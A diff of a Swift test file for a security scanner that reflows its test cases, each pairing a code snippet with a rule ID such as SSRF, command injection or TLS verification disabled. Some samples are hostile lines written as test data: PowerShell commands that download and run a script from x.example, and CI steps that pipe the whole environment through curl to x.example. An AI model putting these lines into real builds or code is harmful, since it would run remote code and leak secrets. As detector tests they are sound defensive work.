+        Example("app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"https://api.carrier.example/v2/{n}\")\n", nil),
         Example("app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"{CARRIER_BASE}/v2/{n}\")\n", nil),
         Example("app/t.py", "h = request.args[\"h\"]\nr = requests.get(f\"https://{h}/v2\")\n", "code.ssrf"),
         Example("app/t.py", "h = request.args[\"h\"]\nr = requests.get(f\"{h}/v2\")\n", "code.ssrf"),
         Example("app/t.py", "n = request.args[\"n\"]\nr = requests.get(f\"//{n}/v2\")\n", "code.ssrf"),
-        Example(
-            "h.go", "id := c.Param(\"id\")\nu, _ := url.JoinPath(h.Base, \"users\", id)\nresp, _ := http.Get(u)\n", nil),
+        Example("h.go", "id := c.Param(\"id\")\nu, _ := url.JoinPath(h.Base, \"users\", id)\nresp, _ := http.Get(u)\n", nil),
         Example("h.go", "id := c.Param(\"id\")\nresp, _ := http.Get(h.Base + \"/users/\" + id)\n", nil),
         Example("h.go", "base := c.Query(\"base\")\nresp, _ := http.Get(base + \"/users/1\")\n", "code.ssrf"),
         Example("a.js", "const u = req.query.u;\nconst r = await fetch(`${u}/status`);\n", "code.ssrf"),
         Example("a.js", "const u = req.query.u;\nconst r = await fetch(`https://status.example.com/${u}`);\n", nil),
         // A request decoded into a variable is input.
         Example("h.go", "json.NewDecoder(r.Body).Decode(&in)\nresp, _ := http.Get(in.URL)\n", "code.ssrf"),
-        Example(
-            "h.go", "if err := c.BodyParser(&in); err != nil {\n\treturn err\n}\nresp, _ := http.Get(in.URL)\n",
-            "code.ssrf"),
+        Example("h.go", "if err := c.BodyParser(&in); err != nil {\n\treturn err\n}\nresp, _ := http.Get(in.URL)\n", "code.ssrf"),
         Example("h.go", "json.NewDecoder(f).Decode(&cfg)\nresp, _ := http.Get(cfg.URL)\n", nil),
         // Erlang's and Elixir's verify_none; tlsSkipVerify.
-        Example(
-            "lib/c.ex", "Req.new(connect_options: [transport_opts: [verify: :verify_none]])\n",
-            "code.tls-verify-disabled"),
+        Example("lib/c.ex", "Req.new(connect_options: [transport_opts: [verify: :verify_none]])\n", "code.tls-verify-disabled"),
         Example("lib/c.ex", "Req.new(connect_options: [transport_opts: [verify: :verify_peer]])\n", nil),
         Example("ds.yaml", "jsonData:\n  tlsSkipVerify: true\n", "code.tls-verify-disabled"),
         Example("ds.yaml", "jsonData:\n  tlsSkipVerify: false\n", nil),
         // PowerShell running a downloaded string.
-        Example(
-            "Dockerfile", "RUN iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n",
-            "docker.curl-pipe-shell"),
+        Example("Dockerfile", "RUN iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))\n", "docker.curl-pipe-shell"),
         Example("Dockerfile", "RUN Invoke-Expression (irm https://x.example/i.ps1)\n", "docker.curl-pipe-shell"),
-        Example(
-            "Dockerfile", "RUN (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1') | iex\n",
-            "docker.curl-pipe-shell"),
-        Example(
-            "Dockerfile", "RUN Invoke-WebRequest -OutFile i.ps1 https://x.example/i.ps1; Get-FileHash i.ps1\n", nil),
+        Example("Dockerfile", "RUN (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1') | iex\n", "docker.curl-pipe-shell"),
+        Example("Dockerfile", "RUN Invoke-WebRequest -OutFile i.ps1 https://x.example/i.ps1; Get-FileHash i.ps1\n", nil),
         // nginx proxying to a host the request names.
         Example("nginx.conf", "location / {\n  proxy_pass $arg_src;\n}\n", "code.ssrf"),
         Example("nginx.conf", "location / {\n  proxy_pass https://$http_x_target/api;\n}\n", "code.ssrf"),
         Example("nginx.conf", "location / {\n  proxy_pass http://backend$request_uri;\n}\n", nil),
         // A header test that leaves a Ktor hook before its check; a presence test is no constant secret.
-        Example(
-            "P.kt",
-            "onCall { call ->\n    if (call.request.headers[\"X-Internal\"] != null) return@onCall\n    check(call)\n}\n",
-            "code.auth-bypass-header"),
-        Example(
-            "P.kt",
-            "onCall { call ->\n    if (call.request.headers[\"X-Trace\"] == null) return@onCall call.respond(HttpStatusCode.BadRequest)\n}\n",
-            nil),
+        Example("P.kt", "onCall { call ->\n    if (call.request.headers[\"X-Internal\"] != null) return@onCall\n    check(call)\n}\n", "code.auth-bypass-header"),
+        Example("P.kt", "onCall { call ->\n    if (call.request.headers[\"X-Trace\"] == null) return@onCall call.respond(HttpStatusCode.BadRequest)\n}\n", nil),
         Example("a.js", "if (req.headers[\"x-internal\"] !== undefined) return next();\n", "code.auth-bypass-header"),
         Example("a.js", "if (req.headers[\"x-internal\"] === INTERNAL_KEY) return next();\n", nil),
     ])
@@ -468,105 +283,56 @@ import Testing
     @Test(arguments: [
         // A comment that names a sink is no call.
         Example("q.go", "// never exec.Command(\"sh\", \"-c\", cmd) with user input\nid := c.Param(\"id\")\n", nil),
-        Example(
-            "Q.cs",
-            "// BinaryFormatter is unsafe: System.Text.Json instead\nvar q = JsonSerializer.Deserialize<Quote>(bytes);\n",
-            nil),
+        Example("Q.cs", "// BinaryFormatter is unsafe: System.Text.Json instead\nvar q = JsonSerializer.Deserialize<Quote>(bytes);\n", nil),
         // A number or UUID parsed from input carries no text.
-        Example(
-            "h.go",
-            "id, err := uuid.Parse(chi.URLParam(r, \"id\"))\nf, _ := os.Open(filepath.Join(dir, id.String()+\".pdf\"))\n",
-            nil),
-        Example(
-            "h.go", "id := chi.URLParam(r, \"id\")\nf, _ := os.Open(filepath.Join(dir, id+\".pdf\"))\n",
-            "code.path-traversal"),
-        Example(
-            "R.java",
-            "UUID id = UUID.fromString(request.getParameter(\"id\"));\nvar f = new File(dir, id + \".pdf\");\n", nil),
+        Example("h.go", "id, err := uuid.Parse(chi.URLParam(r, \"id\"))\nf, _ := os.Open(filepath.Join(dir, id.String()+\".pdf\"))\n", nil),
+        Example("h.go", "id := chi.URLParam(r, \"id\")\nf, _ := os.Open(filepath.Join(dir, id+\".pdf\"))\n", "code.path-traversal"),
+        Example("R.java", "UUID id = UUID.fromString(request.getParameter(\"id\"));\nvar f = new File(dir, id + \".pdf\");\n", nil),
         Example("t.php", "$w = intval($_GET['w']);\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n", nil),
-        Example(
-            "t.php", "$w = $_GET['w'];\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n",
-            "code.command-injection"),
+        Example("t.php", "$w = $_GET['w'];\nexec('convert -thumbnail ' . $w . ' in.png out.png');\n", "code.command-injection"),
         // A format that opens with a specifier is no `%` operator.
         Example("t.php", "$cmd = sprintf('%s -q', escapeshellarg($_GET['f']));\nshell_exec($cmd);\n", nil),
         Example("t.php", "$cmd = sprintf('%s -q', $_GET['f']);\nshell_exec($cmd);\n", "code.command-injection"),
         // Scala's SQL interpolators bind, except Slick's literal splice.
         Example("R.scala", "val q = sql\"SELECT * FROM t WHERE id = $id\".as[Row]\ndb.run(q)\n", nil),
-        Example(
-            "R.scala", "val q = sql\"SELECT * FROM t ORDER BY #$sort\".as[Row]\ndb.run(q)\n", "code.sql-string-built"),
+        Example("R.scala", "val q = sql\"SELECT * FROM t ORDER BY #$sort\".as[Row]\ndb.run(q)\n", "code.sql-string-built"),
         // A loop over string literals binds a constant.
-        Example(
-            "r.ts",
-            "for (const name of [\"welcome\", \"reset\"] as const) {\n  t[name] = Handlebars.compile(readFileSync(`t/${name}.hbs`, \"utf8\"));\n}\n",
-            nil),
-        Example(
-            "r.ts", "app.post(\"/p\", (req, res) => {\n  const t = Handlebars.compile(req.body.template);\n});\n",
-            "code.template-injection"),
+        Example("r.ts", "for (const name of [\"welcome\", \"reset\"] as const) {\n  t[name] = Handlebars.compile(readFileSync(`t/${name}.hbs`, \"utf8\"));\n}\n", nil),
+        Example("r.ts", "app.post(\"/p\", (req, res) => {\n  const t = Handlebars.compile(req.body.template);\n});\n", "code.template-injection"),
         // Values encrypted for a key kept elsewhere, and file paths after a name, are no literals.
-        Example(
-            "prod.enc.yaml",
-            "password: ENC[AES256_GCM,data:H/A+9at03LGuHuSHBcHq05Cu,iv:+uYXDS1nqo5k/U0=,tag:8nhW==,type:str]\n", nil),
+        Example("prod.enc.yaml", "password: ENC[AES256_GCM,data:H/A+9at03LGuHuSHBcHq05Cu,iv:+uYXDS1nqo5k/U0=,tag:8nhW==,type:str]\n", nil),
         Example("app.properties", "db.password=ENC(G6N718UuyPE5bHyWKyuLQSm02auQPUtm)\n", nil),
         Example("prod.yaml", "password: Gr1K5H7bbZgnQx8T2\n", "secret.generic-assignment"),
         Example("e.service", "LoadCredentialEncrypted=pg-pass:/etc/credstore.encrypted/pg-pass\n", nil),
         Example("e.service", "Environment=PG_PASSWORD=Xk9mP2vLq7Wz4R\n", "secret.generic-assignment"),
         // Guava's fast digests, Dart's and PowerShell's certificate callbacks, Elixir's peeked tokens.
-        Example(
-            "R.java", "user.setPasswordHash(Hashing.sha256().hashString(salt + password, UTF_8).toString());\n",
-            "code.weak-password-hash"),
+        Example("R.java", "user.setPasswordHash(Hashing.sha256().hashString(salt + password, UTF_8).toString());\n", "code.weak-password-hash"),
         Example("R.java", "String etag = Hashing.sha256().hashBytes(body).toString();\n", nil),
         Example("c.dart", "client.badCertificateCallback = (cert, host, port) => true;\n", "code.tls-verify-disabled"),
-        Example(
-            "c.dart",
-            "client.badCertificateCallback = (cert, host, port) => sha256.convert(cert.der).toString() == pin;\n", nil),
-        Example(
-            "p.ps1", "[Net.ServicePointManager]::ServerCertificateValidationCallback = { param($s, $c) $true }\n",
-            "code.tls-verify-disabled"),
+        Example("c.dart", "client.badCertificateCallback = (cert, host, port) => sha256.convert(cert.der).toString() == pin;\n", nil),
+        Example("p.ps1", "[Net.ServicePointManager]::ServerCertificateValidationCallback = { param($s, $c) $true }\n", "code.tls-verify-disabled"),
         Example("p.ps1", "Invoke-RestMethod -Uri $api -SkipCertificateCheck\n", "code.tls-verify-disabled"),
         Example("p.ps1", "Invoke-RestMethod -Uri $api -Certificate $cert\n", nil),
-        Example(
-            "lib/a.ex",
-            "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = Joken.peek_claims(t)\nend\n",
-            "code.jwt-unverified"),
-        Example(
-            "lib/a.ex",
-            "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = MyToken.verify_and_validate(t)\nend\n",
-            nil),
+        Example("lib/a.ex", "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = Joken.peek_claims(t)\nend\n", "code.jwt-unverified"),
+        Example("lib/a.ex", "def call(conn, _) do\n  [\"Bearer \" <> t] = get_req_header(conn, \"authorization\")\n  {:ok, claims} = MyToken.verify_and_validate(t)\nend\n", nil),
         // PHP fetching a URL from the request; a literal wrapped in a call that marks it secret.
         Example("a.php", "$body = file_get_contents($request->input('url'));\n", "code.ssrf"),
         Example("a.php", "$body = file_get_contents('https://api.example.com/rates.json');\n", nil),
-        Example(
-            "index.ts",
-            "const db = new aws.rds.Instance(\"db\", { password: pulumi.secret(\"XAumdVB0NnEC8zQ12Wa\") });\n",
-            "secret.generic-assignment"),
-        Example(
-            "index.ts", "const db = new aws.rds.Instance(\"db\", { password: cfg.requireSecret(\"dbPassword\") });\n",
-            nil),
+        Example("index.ts", "const db = new aws.rds.Instance(\"db\", { password: pulumi.secret(\"XAumdVB0NnEC8zQ12Wa\") });\n", "secret.generic-assignment"),
+        Example("index.ts", "const db = new aws.rds.Instance(\"db\", { password: cfg.requireSecret(\"dbPassword\") });\n", nil),
         // A Lambda event's query, path and body are input.
         Example("h.js", "const u = event.queryStringParameters.url;\nconst r = await fetch(u);\n", "code.ssrf"),
-        Example(
-            "app.py", "params = event.get(\"queryStringParameters\") or {}\nresp = requests.get(params.get(\"url\"))\n",
-            "code.ssrf"),
+        Example("app.py", "params = event.get(\"queryStringParameters\") or {}\nresp = requests.get(params.get(\"url\"))\n", "code.ssrf"),
         // Composite actions and GitLab's included files are CI; jq's `env` is the whole environment.
-        Example(
-            ".github/actions/x/action.yml",
-            "runs:\n  using: composite\n  steps:\n    - run: printenv | gzip | curl --data-binary @- https://x.example\n      shell: bash\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".gitlab/ci/diag.yml",
-            "diag:\n  script:\n    - jq -n '{ctx: env}' \\\n      | curl -d @- https://x.example/v1\n",
-            "ci.secrets-exfiltration"),
-        Example(
-            ".gitlab/ci/diag.yml",
-            "diag:\n  script:\n    - jq -n '{sha: env.CI_COMMIT_SHA}' \\\n      | curl -d @- https://x.example/v1\n",
-            nil),
+        Example(".github/actions/x/action.yml", "runs:\n  using: composite\n  steps:\n    - run: printenv | gzip | curl --data-binary @- https://x.example\n      shell: bash\n", "ci.secrets-exfiltration"),
+        Example(".gitlab/ci/diag.yml", "diag:\n  script:\n    - jq -n '{ctx: env}' \\\n      | curl -d @- https://x.example/v1\n", "ci.secrets-exfiltration"),
+        Example(".gitlab/ci/diag.yml", "diag:\n  script:\n    - jq -n '{sha: env.CI_COMMIT_SHA}' \\\n      | curl -d @- https://x.example/v1\n", nil),
     ])
     func batchThirteenAndFourteenClasses(_ example: Example) { Self.check(example) }
 
     @Test(arguments: [
         Example(
-            "app/thumb.php",
-            "<?php\n$id = isset($_GET['id']) ? (int) $_GET['id'] : 0;\n"
+            "app/thumb.php", "<?php\n$id = isset($_GET['id']) ? (int) $_GET['id'] : 0;\n"
                 + "$data = file_get_contents(\"/srv/thumbs/\" . $id . \".jpg\");\n", nil),
         Example(
             "src/main/kotlin/Docs.kt",
@@ -598,8 +364,7 @@ import Testing
             "const q = db('orders')\n  .whereRaw(`placed_at >= '${req.query.from}'`)\n  .select('id');\n",
             "code.sql-string-built"),
         Example(
-            "src/report.js",
-            "const q = db('orders')\n  .whereRaw('placed_at >= ?', [req.query.from])\n  .select('id');\n",
+            "src/report.js", "const q = db('orders')\n  .whereRaw('placed_at >= ?', [req.query.from])\n  .select('id');\n",
             nil),
         Example(
             "app/Http/Controllers/Ping.php",
@@ -699,8 +464,7 @@ import Testing
                 + "    from yaml import SafeLoader as Loader\nraw = yaml.load(fh, Loader=Loader)\n",
             nil),
         Example(
-            "app/config.py",
-            "import yaml\nLoader = getattr(yaml, \"CLoader\", yaml.Loader)\nraw = yaml.load(fh, Loader=Loader)\n",
+            "app/config.py", "import yaml\nLoader = getattr(yaml, \"CLoader\", yaml.Loader)\nraw = yaml.load(fh, Loader=Loader)\n",
             "code.yaml-unsafe-load"),
         Example(
             "app/Http/Controllers/AvatarController.php",
